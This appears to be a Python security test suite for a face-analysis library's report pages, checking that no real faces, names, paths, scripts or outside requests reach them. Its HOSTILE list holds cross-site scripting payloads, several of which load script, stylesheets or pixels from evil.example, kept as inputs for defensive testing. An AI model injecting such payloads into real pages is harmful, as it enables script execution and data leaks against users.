"""Pages: no face, no script, no request, no file of the machine and no name gets onto one."""

import base64
import hashlib
import json
import shutil
from urllib.parse import quote_from_bytes

import nbformat
import numpy as np
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from standing_faces import (
    DATA,
    FACE,
    HTML,
    MARKDOWN,
    OUTPUTS,
    SVG,
    b64,
    book,
    cell,
    new,
    noting,
    output,
    picture,
    run_of,
)

import facelab as fl
from facelab.figures import plots
from facelab.figures.style import Picture, panels
from facelab.pages.allowed import Allowed
from facelab.pages.notebooks import notebook_html
from facelab.shown import shown_in

pytestmark = pytest.mark.security(area="pages")

ON_DISK = picture(seed=11)
FORMS = [picture(form) for form in ("PNG", "JPEG", "GIF", "WEBP", "BMP")]


def pages_of(folder):
    """The report and the shared page of a run."""
    report = notebook_html(folder / "notebook.ipynb", Allowed(shown_in(folder)))
    return {"report": report, "shared": fl.share(folder, replace=True).read_text()}


def shows(text):
    """Whether a page holds one of the pictures, in whatever way it could be written down."""
    squeezed = "".join(text.split()).lower()
    written = [
        spelt.lower()
        for data in (*FORMS, ON_DISK)
        for spelt in (b64(data)[40:80], quote_from_bytes(data)[60:90], data.hex()[60:90])
    ]
    written += ["".join(f"%{byte:02x}" for byte in FACE)[90:120], b64(SVG.encode())[60:90].lower()]
    written += ["".join(f"&#{ord(one)};" for one in DATA)[100:160]]
    return any(one in squeezed for one in written)


def put(form, place):
    """A notebook with a form of HTML or Markdown in one of the places that are rendered."""
    if place == "prose":
        return new.new_notebook(cells=[new.new_markdown_cell(form)])
    kind = "text/html" if place == "html" else "text/markdown"
    return book(cell(output(kind, form)))


WAYS = [
    *(("html", name, HTML[name]) for name in HTML),
    *(("prose", name, HTML[name]) for name in HTML),
    *(("markdown", name, MARKDOWN[name]) for name in MARKDOWN),
    *(("prose", name, MARKDOWN[name]) for name in MARKDOWN),
]


@pytest.fixture
def folder(tmp_path):
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "face.png").write_bytes(ON_DISK)
    return tmp_path / "run"


@pytest.mark.parametrize("place", ["html", "markdown", "prose"])
def test_no_picture_stands_in_html_or_in_prose(folder, place, tried):
    ways = [(name, form) for where, name, form in WAYS if where == place]
    for name, form in ways:
        form = form.replace("FILE", str(folder / "face.png")).replace("SIDE", "face.png")
        made = put(form, place)
        made.cells[0].attachments = {"face.png": {"image/png": b64(ON_DISK)}}
        for kind, text in pages_of(run_of(made, folder)).items():
            assert not shows(text), f"{kind}: {name}"
            assert "<img" not in text and "url(" not in text, f"{kind}: {name}"
    tried(2 * len(ways))


def test_no_picture_stands_in_an_output_whatever_its_metadata_say(folder, tried):
    for kind, content in OUTPUTS.items():
        for whole in (True, False):
            one = output(kind, content if whole or not isinstance(content, str) else [content])
            one.metadata["faces"] = "synthetic"
            for page, text in pages_of(run_of(book(cell(one)), folder)).items():
                assert not shows(text), f"{page}: {kind}"
    tried(4 * len(OUTPUTS))


def test_no_picture_stands_in_what_is_printed_raised_written_or_noted(folder, tried):
    tag = f'<img src="{DATA}">'
    made = {
        "stream": book(cell(new.new_output("stream", text=tag))),
        "error": book(cell(new.new_output("error", ename=tag, evalue=tag, traceback=[tag]))),
        "source": book(cell(source=tag)),
        "raw": book(new.new_raw_cell(tag)),
        "raw html": book(new.new_raw_cell(tag, metadata={"raw_mimetype": "text/html"})),
        "title": new.new_notebook(cells=[new.new_markdown_cell(f"# {tag}</title>{tag}")]),
        "name": book(new.new_code_cell("1", metadata={"name": tag})),
    }
    made["language"] = book(cell())
    made["language"].metadata = {"language_info": {"name": tag, "pygments_lexer": tag}}
    made["widgets"] = book(cell())
    made["widgets"].metadata = {
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": tag}}}
    }
    for name, notebook in made.items():
        for page, text in pages_of(run_of(notebook, folder)).items():
            found = BeautifulSoup(text, "html.parser")
            assert not found.find_all(["img", "image", "svg", "script", "iframe"]), (page, name)
    tried(2 * len(made))


# ---- what facelab draws


def test_a_picture_stays_where_facelab_drew_it_without_real_faces(folder, faces):
    synthetic = fl.FaceSet.from_arrays(faces.table, faces.crops, synthetic=True)
    with noting(folder):
        chart = plots.composition(synthetic, "gender")._repr_mimebundle_()
        sheet = plots.contact_sheet(synthetic, "gender")._repr_mimebundle_()
        html = synthetic._repr_html_()
    one = [new.new_output("display_data", {"image/png": b64(chart[0]["image/png"])})]
    one += [new.new_output("display_data", {"image/png": b64(sheet[0]["image/png"])})]
    one += [output("text/html", html)]
    for text in pages_of(run_of(book(cell(*one)), folder)).values():
        assert text.count("<img") == 3
        assert "Real faces" in text and "left out" not in text


def drawings(real, embedder_of):
    """Figures that show, or may show, real people."""
    rows = {"a": real.table["image"].tolist()[:2]}
    crop = real.crops[0]

    def own(draw):
        figure, (axes,) = panels(1, 3)
        draw(figure, axes)
        return figure

    def later():
        figure = plots.composition(real, "gender")
        figure.axes[0].imshow(crop)
        return figure

    def exchanged():
        synthetic = fl.FaceSet.from_arrays(real.table, real.crops * 0, synthetic=True)
        figure = plots.contact_sheet(synthetic, "gender")
        figure.axes[0].images[0].set_data(crop)
        return figure

    grey = crop.mean(2)
    yield "rows of images", plots.rows_of_images(real, rows, show_real_faces=True)
    yield "contact sheet", plots.contact_sheet(real, "gender", show_real_faces=True)
    yield "probes", plots.probe_sheet(real, strengths=[0, 1], show_real_faces=True)
    yield "imshow", own(lambda figure, axes: axes.imshow(crop))
    yield "grey imshow", own(lambda figure, axes: axes.imshow(grey))
    yield "figimage", own(lambda figure, axes: figure.figimage(crop))
    yield "pcolormesh", own(lambda figure, axes: axes.pcolormesh(grey))
    yield "pcolorfast", own(lambda figure, axes: axes.pcolorfast(grey))
    yield "contourf", own(lambda figure, axes: axes.imshow(grey, alpha=0.5))
    y, x = np.mgrid[: len(crop), : len(crop)]
    yield "scatter", own(lambda figure, axes: axes.scatter(x, y, c=crop.reshape(-1, 3) / 255))
    yield "hexbin", own(lambda figure, axes: axes.hexbin(x.ravel(), y.ravel(), grey.ravel()))

    def bars(figure, axes):
        axes.bar(x.ravel(), 1, bottom=y.ravel(), color=crop.reshape(-1, 3) / 255)

    yield "bars", own(bars)

    def boxed(figure, axes):
        from matplotlib.offsetbox import AnnotationBbox, OffsetImage

        axes.add_artist(AnnotationBbox(OffsetImage(crop), (0.5, 0.5)))

    yield "annotation", own(boxed)
    yield "drawn over later", later()
    yield "exchanged", exchanged()
    unsaid = Picture()
    unsaid.add_axes((0, 0, 1, 1)).imshow(crop)
    yield "a figure of one's own", unsaid


def test_a_figure_with_a_picture_in_it_is_left_out_unless_it_says_what_it_shows(folder, tried):
    table = pd.DataFrame({"subject": list("aabb"), "image": list("1234"), "gender": list("ffmm")})
    crops = np.random.default_rng(0).integers(0, 256, (4, 48, 48, 3), np.uint8)
    real = fl.FaceSet.from_arrays(table, crops, synthetic=False)
    count = 0
    for name, figure in drawings(real, fl.embedder_of):
        assert figure.faces in ("real", "unknown"), name
        with noting(folder):
            data = figure.png()
        made = book(cell(output("image/png", b64(data))))
        for text in pages_of(run_of(made, folder)).values():
            assert "<img" not in text, name
        count += 2
    tried(count)
    figure.faces = "none"  # whoever draws says it
    assert "<img" not in fl.share(run_of(made, folder), replace=True).read_text()
    with noting(folder):
        made = book(cell(output("image/png", b64(figure.png()))))
    assert "<img" in fl.share(run_of(made, folder), replace=True).read_text()


def test_what_was_told_of_one_picture_twice_is_the_graver(folder):
    for told in (["real", "none"], ["none", "real"], ["unknown", "real", "synthetic"]):
        lines = [json.dumps({"picture": "0" * 64, "faces": faces}) for faces in told]
        (folder / "shown.jsonl").write_text("\n".join(lines))
        assert shown_in(folder).safe == set()


def test_a_damaged_note_is_one_sentence(folder):
    for text in ("{", "[]", '{"picture": 3}', '{"names": 3}'):
        (folder / "shown.jsonl").write_text(text)
        run_of(book(), folder)
        with pytest.raises(fl.BadInput, match="is damaged"):
            fl.share(folder)


def test_a_note_that_is_added_afterwards_is_no_permission(folder):
    run_of(book(cell(output("image/png", b64(FACE)))), folder)
    line = json.dumps({"picture": hashlib.sha256(FACE).hexdigest(), "faces": "none"})
    (folder / "shown.jsonl").write_text(line)
    try:
        assert "<img" not in fl.share(folder).read_text()
    except fl.BadInput as refusal:
        assert "shown.jsonl" in str(refusal)


# ---- who is on it


PEOPLE = ["Ada_Lovelace", "Grace Hopper", "Emmy-Noether", "Müller, Jörg", "s0017x"]
CODE = """\
import facelab as fl
import warnings
faces = fl.load(data)
print(faces.table)
print("/home/ada/private/list.csv", r"C:\\\\Users\\\\ada\\\\x.jpg", "~/faces/x.jpg", data)
print(*faces.table["image"])
print(*(name.upper().replace("_", " ") for name in faces.table["subject"].unique()))
warnings.warn(f"{faces.table['subject'][0]} is twice in {data}")
"""


@pytest.fixture(scope="module")
def named(tmp_path_factory):
    """A run whose cells print everybody's names."""
    place = tmp_path_factory.mktemp("named")
    subject = np.repeat(PEOPLE, 2)
    image = [f"{name}/{name}_{n % 2:04}.jpg" for n, name in enumerate(subject)]
    table = pd.DataFrame({"subject": subject, "image": image, "gender": ["f", "m"] * 5})
    crops = np.zeros((10, 16, 16, 3), np.uint8)
    fl.FaceSet.from_arrays(table, crops, name="office", synthetic=False).save(place / "set")
    made = book(
        new.new_code_cell('data = ""', metadata={"tags": ["parameters"]}),
        new.new_code_cell(CODE),
        new.new_code_cell("faces.table"),
    )
    made.cells[0].source = f"# Of Ada Lovelace\n\nSee {place}/set/faces.parquet"
    nbformat.write(made, place / "named.ipynb")
    return fl.run(place / "named.ipynb", {"data": str(place / "set")}, out=place / "runs")


def test_no_name_no_file_name_and_no_path_is_on_a_page(named, tried):
    texts = {
        "report": (named / "report.html").read_text(),
        "shared": fl.share(named, replace=True).read_text(),
    }
    hidden = [*PEOPLE, "Lovelace", "LOVELACE", "Hopper", "HOPPER", "Noether", "Jörg", "JÖRG"]
    hidden += ["/home/ada", "list.csv", "Users", "~/faces", str(named.parents[2]), "_0001", "/set"]
    for page, text in texts.items():
        for word in hidden:
            assert word not in text, (page, word)
        assert text.count("person-") > 30
        assert "Names and paths" in text and "pseudonyms stand for them" in text
    tried(2 * len(hidden))
    assert not any(word in (named / "shown.jsonl").read_text() for word in hidden)


def test_one_person_has_one_pseudonym_on_every_page(named):
    import re

    one = {*re.findall(r"person-[0-9a-f]{8}", (named / "report.html").read_text())}
    other = {*re.findall(r"person-[0-9a-f]{8}", fl.share(named, replace=True).read_text())}
    assert one == other and len(one) == 15  # five people and ten photos


def test_names_and_paths_stay_where_they_are_asked_for_and_that_is_said(named):
    text = fl.share(named, show_names=True, replace=True).read_text()
    assert all(name in text for name in ("Ada_Lovelace", "Grace Hopper", "/home/ada/private"))
    assert "Names and paths</dt><dd>shown, as was asked for" in text


def test_what_goes_to_others_servers_is_the_shared_form(named, tmp_path):
    from facelab.pages.sharing import write_sharable

    whole = shutil.copytree(named, tmp_path / "run")
    (whole / "shared.html").unlink(missing_ok=True)
    for part in ("tables", "figures"):
        (whole / part).mkdir()
    (whole / "tables" / "worst.csv").write_text("subject,score\nAda_Lovelace,0.5\n")
    (whole / "metrics.json").write_text('{"warnings": ["Grace Hopper is twice in /home/ada"]}')
    (whole / "figures" / "face.png").write_bytes(FACE)
    fl.seal(whole)
    out = tmp_path / "out"
    out.mkdir()
    write_sharable(whole, out)
    files = {str(path.relative_to(out)) for path in out.rglob("*") if path.is_file()}
    assert files == {"shared.html", "tables/worst.csv", "metrics.json"}
    for file in files:
        text = (out / file).read_text()
        assert not any(word in text for word in (*PEOPLE, "Lovelace", "/home/ada")), file


# ---- in a real browser


HOSTILE = [
    "<script>window.hit = 1</script>",
    '"><img src=x onerror="window.hit = 2">',
    "</style><script src=https://evil.example/x.js></script>",
    "</title><svg onload='window.hit = 3'></svg>",
    "![x](https://evil.example/pixel.png)",
    "<a href='javascript:window.hit=4' autofocus onfocus='window.hit=5'>x</a>",
    "[x](javascript:window.hit=6)",
    "<iframe srcdoc='<script>top.hit = 7</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button formaction=javascript:hit=8 autofocus>x</form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
]


def kinds_of_pages(place):
    """Pages of every kind on which every word that is somebody else's is hostile."""
    from test_labels import audit_page, gallery, summary

    people = np.repeat([f"{name} {n}" for name in HOSTILE for n in range(4)], 3)
    groups = [f"{HOSTILE[n % 3]}{n // 72}" for n in range(len(people))]
    groups = np.repeat([f"{HOSTILE[n % 12]}" for n in range(len(people) // 3)], 3)
    image = [f"{name}/{n}" for n, name in enumerate(people)]
    table = pd.DataFrame({"subject": people, "image": image, HOSTILE[0]: groups, "gender": groups})
    rng = np.random.default_rng(0)
    vectors = np.repeat(rng.normal(size=(len(people) // 3, 8)), 3, 0)
    vectors += 0.4 * rng.normal(size=vectors.shape)
    facts = {"name": HOSTILE[1], "source": HOSTILE[2], "licence": HOSTILE[3], "consent": HOSTILE[4]}
    real = fl.FaceSet.from_arrays(
        table, rng.integers(0, 256, (len(table), 16, 16, 3), np.uint8), **facts, synthetic=False
    )
    audit = fl.audit(fl.Embeddings.from_arrays(vectors, table, faces=facts), "gender", fmr=0.1)
    outputs = [output("text/html", thing) for thing in HOSTILE]
    outputs += [output("text/markdown", thing) for thing in HOSTILE]
    outputs += [output("text/html", audit._repr_html_()), output("text/html", real._repr_html_())]
    outputs += [output("text/markdown", fl.datasheet(real))]
    outputs += [output("text/html", "\n".join(HTML.values()))]
    made = book(*(new.new_markdown_cell(one) for one in HOSTILE), cell(*outputs))
    made.cells[0].source = "# " + " ".join(HOSTILE)
    run = run_of(made, place / "run", name=HOSTILE[0], inputs=[facts])
    (run / "params.yaml").write_text(json.dumps(dict(zip(HOSTILE, HOSTILE, strict=True))))
    fl.seal(run)
    allowed = Allowed(shown_in(run))
    told = dict.fromkeys(HOSTILE, HOSTILE[1])
    all_ways = book(*(new.new_markdown_cell(form) for form in MARKDOWN.values()))
    for number in range(5):
        (place / str(number)).mkdir()
    yield "report", notebook_html(made, allowed, told, "\n".join(HOSTILE))
    yield "report, everything shown", notebook_html(made, Allowed(faces=True, names=True), told)
    yield "shared", fl.share(run).read_text()
    yield (
        "shared, everything shown",
        fl.share(run, place / "s.html", show_real_faces=True, show_names=True).read_text(),
    )
    yield "shared without code", fl.share(run, place / "n.html", code=False).read_text()
    yield "audit", audit.to_html(place / "audit.html").read_text()
    yield "audit of labels", audit_page(place / "0", audit).read_text()
    yield "summary", summary(place / "1", audit).read_text()
    yield "gallery", gallery(place / "2", audit).read_text()
    yield "every way in prose", notebook_html(all_ways, Allowed())
    every = "\n".join(HTML.values())
    yield "every way at once", notebook_html(book(new.new_markdown_cell(every)), Allowed())
    every = "\n".join(reversed(HTML.values()))
    turned = book(cell(output("text/html", every)))
    yield "and the other way round", notebook_html(turned, Allowed())


def test_twelve_pages_in_a_browser_run_nothing_and_ask_for_nothing(chromium, tmp_path, tried):
    made = dict(kinds_of_pages(tmp_path))
    assert len(made) == 12
    page = chromium.new_page()
    asked, broken = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda told: broken.append(told.text))
    page.on("dialog", lambda dialog: asked.append("dialog"))
    for name, text in made.items():
        file = tmp_path / "page.html"
        file.write_text(text)
        asked.clear(), broken.clear()
        page.goto(file.as_uri())
        page.evaluate("document.querySelectorAll('a, label, summary').forEach(one => one.focus())")
        page.wait_for_timeout(50)
        others = {url for url in asked if not url.startswith("data:")}
        beside = {(tmp_path / "rates.png").as_uri()} if name == "gallery" else set()
        assert others <= {file.as_uri(), *beside}, name
        assert page.evaluate("window.hit") is None, name
        assert page.url == file.as_uri(), name
        assert not page.query_selector_all(
            "body script, body style, iframe, object, embed, form, link, base, svg, math, video"
        ), name
        assert "default-src 'none'" in page.evaluate(
            "document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
        ), name
        shown = page.evaluate(
            "[...document.images].map(one => one.src).concat([...document.querySelectorAll('*')]"
            ".map(one => getComputedStyle(one).backgroundImage).filter(one => one != 'none'))"
        )
        if "everything" not in name:
            for source in shown:
                assert not shows(source), name
        handlers = page.evaluate(
            "[...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())"
            ".filter(name => name.startsWith('on') || ['style', 'srcset'].includes(name))"
        )
        assert handlers == [], name
    tried(12 * len(HOSTILE))
    page.close()


def test_a_page_obeys_no_style_sheet_but_its_own(chromium, tmp_path):
    file = tmp_path / "page.html"
    text = notebook_html(book(), Allowed())
    # Even where something had got through, the page's policy stops it.
    forced = "<main><style>h1 { color: rgb(1, 2, 3) }</style><script>window.hit = 1</script>"
    text = text.replace("<main>", forced)
    file.write_text(text)
    page = chromium.new_page()
    page.goto(file.as_uri())
    colour = page.evaluate("getComputedStyle(document.querySelector('h1')).color")
    assert colour != "rgb(1, 2, 3)" and page.evaluate("window.hit") is None
    # Its own is obeyed.
    assert page.evaluate("getComputedStyle(document.body).marginTop") == "0px"
    page.close()


def test_code_is_opened_without_a_script(chromium, tmp_path):
    file = tmp_path / "page.html"
    file.write_text(notebook_html(book(cell(source="answer = 42")), Allowed()))
    page = chromium.new_page()
    page.goto(file.as_uri())
    code = page.locator("details.code pre")
    assert not code.is_visible()
    page.get_by_label("show code").check()
    assert code.is_visible()
    page.get_by_label("show code").uncheck()
    assert not code.is_visible()
    page.close()


def test_labels_names_and_notes_are_text_in_markdown_too(tried):
    forms = [form.replace("\0", "") for form in (*HTML.values(), *MARKDOWN.values())]
    words = [*HOSTILE, *forms, "`a` *b* ~c~ | d | $e$ # f &lt; \\"]
    shown = Allowed(faces=True, names=True)
    made = book(*(new.new_markdown_cell(fl.in_markdown(word)) for word in words))
    made.cells[0].source = ""
    main = BeautifulSoup(notebook_html(made, shown), "html.parser").find("main")
    text = " ".join(main.get_text().split())
    for word in words:
        assert " ".join(word.split()) in text, word
    assert not main.find_all(["img", "a", "em", "code", "table", "blockquote", "li"])
    tried(len(words))


def test_a_face_is_not_told_by_its_base64(folder):
    assert base64.b64decode(b64(FACE)) == FACE and shows(f"x{b64(FACE)}y") and not shows("x")


@pytest.mark.parametrize("wish", ["show_real_faces", "show_names"])
def test_a_wish_is_true_or_false_and_nothing_else(folder, wish, tried):
    run_of(book(), folder)
    asked = ["no", "false", "", 0, 1, None, []]
    for one in asked:
        for make in (fl.share, fl.run):
            with pytest.raises(fl.BadInput, match="must be True or False"):
                make(folder if make is fl.share else folder / "notebook.ipynb", **{wish: one})
    tried(2 * len(asked))
